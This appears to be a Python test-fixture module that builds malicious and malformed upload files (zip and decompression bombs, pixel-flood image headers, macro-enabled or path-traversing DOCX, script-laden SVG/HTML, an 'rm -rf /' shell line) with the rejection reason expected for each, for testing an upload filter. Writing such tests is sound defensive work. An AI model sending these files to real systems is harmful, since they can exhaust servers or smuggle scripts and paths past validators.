"""Files as attackers and unlucky people send them, built here: nothing is downloaded, nothing is kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from PIL.PngImagePlugin import PngInfo

TYPES = b'<?xml version="1.0"?><Types><Default Extension="xml"/></Types>'
GPS = {1: "N", 2: (51.0, 7.0, 0.0), 3: "E", 4: (71.0, 25.0, 0.0)}
MARK = b"SECRET-PLACE-51.1694-71.4491"


def picture(
    form: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object
) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 120 if mode in {"L", "P"} else (200, 30, 30, 90)[: len(mode)]).save(
        out, form, **options
    )
    return out.getvalue()


def with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update(GPS)
    return picture(exif=exif.tobytes(), comment=MARK, icc_profile=MARK * 9)


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", MARK.decode())
    info.add_itxt("XML:com.adobe.xmp", MARK.decode())
    return picture("PNG", pnginfo=info)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_that_says(width: int, height: int, body: bytes = b"") -> bytes:
    """A PNG whose header declares any size, with hardly any data: a pixel flood."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(body or b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")
    )


def jpeg_that_says(width: int, height: int) -> bytes:
    """A small JPEG whose frame header was changed to any size."""
    content = bytearray(picture())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def animated(form: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), color) for color in ("red", "green", "blue")]
    frames[0].save(out, form, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def text_bomb() -> bytes:
    """A PNG with a compressed comment of 60 MB."""
    flood = b"Comment\0\0" + zlib.compress(b"\0" * 60_000_000)
    content = picture("PNG")
    return content[:33] + png_chunk(b"zTXt", flood) + content[33:]


def office(main: str = "word/document.xml", more: dict[str, bytes] | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", options.get("types", TYPES))
        archive.writestr(main, b"<document/>")
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def plain_zip(name: str = "photo.jpg", content: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def locked_office() -> bytes:
    """The bit that says "locked" set in every header."""
    content = bytearray(office())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at != -1:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def overlapping_office() -> bytes:
    """Many names for one packed body: the directory lists the same part again and again (Fifield's bomb)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", b"\0" * 900_000)
        kernel = archive.getinfo("word/document.xml")
        for number in range(150):
            twin = zipfile.ZipInfo(f"word/{number:03}.xml")
            for name in ("compress_size", "file_size", "CRC", "header_offset", "compress_type"):
                setattr(twin, name, getattr(kernel, name))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return out.getvalue()


def template_from_elsewhere() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" TargetMode="External" Target="http://203.0.113.7/t.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    return office(more={"word/_rels/settings.xml.rels": relation})


def link_to_click() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" TargetMode="External" Target="https://example.kz/" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
    )
    return office(more={"word/_rels/document.xml.rels": relation})


PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\nstartxref\n9\n%%EOF\n"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100
MACRO_TYPES = TYPES.replace(b"xml", b"vnd.ms-word.document.macroEnabled.main+xml", 1)

# name, bytes (built when needed), the refusal
HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    ("nothing", lambda: b"", "empty"),
    ("16 MB", lambda: b"%PDF-" + b"0" * 16_000_000, "size"),
    ("svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "media"),
    ("svg with a declaration", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', "media"),
    ("html", lambda: b"<!doctype html><script>alert(1)</script>", "media"),
    ("html named as a picture", lambda: b"\n\n<html><body onload=alert(1)>", "media"),
    ("javascript", lambda: b"alert(document.cookie)", "media"),
    ("shell", lambda: b"#!/bin/sh\nrm -rf /\n", "media"),
    ("windows program", lambda: b"MZ\x90\0" + b"\0" * 200, "media"),
    ("linux program", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200, "media"),
    ("java class", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34", "media"),
    ("old word with OLE", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "media"),
    ("rtf", lambda: b"{\\rtf1{\\object\\objocx}}", "media"),
    ("gif", lambda: picture("GIF", mode="P"), "media"),
    ("bmp", lambda: picture("BMP"), "media"),
    ("tiff", lambda: picture("TIFF"), "media"),
    ("postscript", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n", "media"),
    ("icon", lambda: picture("ICO"), "media"),
    ("text", lambda: "Әлия".encode(), "media"),
    ("zeros", lambda: b"\0" * 5000, "media"),
    ("heic", lambda: HEIC, "heic"),
    ("avif", lambda: HEIC.replace(b"heic", b"avif"), "heic"),
    ("rar", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 60, "archive"),
    ("7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 60, "archive"),
    ("gzip", lambda: b"\x1f\x8b\x08" + b"\0" * 60, "archive"),
    ("zip", plain_zip, "archive"),
    ("zip in zip", lambda: plain_zip("inner.zip", plain_zip()), "archive"),
    ("zip bomb", lambda: plain_zip("bomb", b"\0" * 20_000_000), "archive"),
    ("apk", lambda: plain_zip("AndroidManifest.xml"), "archive"),
    ("png of 200 megapixels", lambda: png_that_says(20_000, 10_000), "pixels"),
    ("png of 4 gigapixels", lambda: png_that_says(65_535, 65_535), "pixels"),
    ("png of 2**31 by 2**31", lambda: png_that_says(2**31 - 1, 2**31 - 1), "pixels"),
    ("jpeg of 200 megapixels", lambda: jpeg_that_says(20_000, 10_000), "pixels"),
    ("jpeg of 65,535 squared", lambda: jpeg_that_says(65_535, 65_535), "pixels"),
    ("webp of 268 megapixels", lambda: webp_that_says(16_384, 16_384), "pixels"),
    ("png that promises more than it has", lambda: png_that_says(5000, 5000), "damaged"),
    ("png of no width", lambda: png_that_says(0, 10), "damaged"),
    ("png text bomb", text_bomb, "damaged"),
    ("jpeg cut in half", lambda: noisy()[: len(noisy()) // 2], "damaged"),
    ("png cut in half", lambda: noisy("PNG")[: len(noisy("PNG")) // 2], "damaged"),
    ("webp cut in half", lambda: noisy("WEBP")[: len(noisy("WEBP")) // 2], "damaged"),
    ("jpeg of three bytes", lambda: b"\xff\xd8\xff", "damaged"),
    ("jpeg head, html body", lambda: b"\xff\xd8\xff\xe0<script>alert(1)</script>", "damaged"),
    ("png with a broken checksum", lambda: broken_png(), "damaged"),
    ("animated png", lambda: animated("PNG"), "animated"),
    ("animated webp", lambda: animated("WEBP"), "animated"),
    ("pdf without an end", lambda: PDF[:-7], "damaged"),
    ("pdf that is a zip too", lambda: PDF + plain_zip(), "mixed"),
    ("pdf with html behind", lambda: PDF + b"<script>" + b"x" * 500, "mixed"),
    ("html before a pdf", lambda: b"<script></script>" + PDF, "media"),
    ("zip before a pdf", lambda: plain_zip() + PDF, "mixed"),
    ("docx with a comment behind", lambda: office() + b"<script>", "mixed"),
    ("docx cut", lambda: office()[:-30], "damaged"),
    ("docx with macros", lambda: office(more={"word/vbaProject.bin": b"x"}), "macros"),
    ("docx that says it has macros", lambda: office(types=MACRO_TYPES), "macros"),
    ("xlsx with a macro sheet", lambda: office("xl/workbook.xml", {"xl/macrosheets/s.xml": b"x"}), "macros"),
    ("docx with a program", lambda: office(more={"word/media/run.exe": b"MZ"}), "macros"),
    ("docx with a file inside", lambda: office(more={"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    ("docx with an archive inside", lambda: office(more={"word/media/a.zip": plain_zip()}), "embedded"),
    ("docx that climbs out", lambda: office(more={"../../etc/cron.d/x": b"x"}), "mixed"),
    ("docx with a name twice", lambda: twice(), "mixed"),
    ("docx bomb of 300 MB", lambda: office(more={"word/a.xml": b"\0" * 300_000_000}), "bomb"),
    ("docx of 3000 parts", lambda: office(more={f"word/{n}.xml": b"" for n in range(3000)}), "bomb"),
    ("docx of overlapping parts", overlapping_office, "bomb"),
    ("docx locked", locked_office, "locked"),
    ("docx that loads a template", template_from_elsewhere, "outside"),
]


def webp_that_says(width: int, height: int) -> bytes:
    """A still, lossless WebP whose header was changed to any size."""
    content = bytearray(picture("WEBP", lossless=True))
    at = content.index(b"VP8L") + 9
    content[at : at + 4] = struct.pack("<I", (width - 1) | (height - 1) << 14)
    return bytes(content)


def noisy(form: str = "JPEG") -> bytes:
    out = io.BytesIO()
    Image.effect_noise((300, 300), 90).convert("RGB").save(out, form)
    return out.getvalue()


def broken_png() -> bytes:
    content = bytearray(noisy("PNG"))
    content[content.index(b"IDAT") + 40] ^= 255
    return bytes(content)


def twice() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return office(more={"word/document.xml": b"<other/>"})
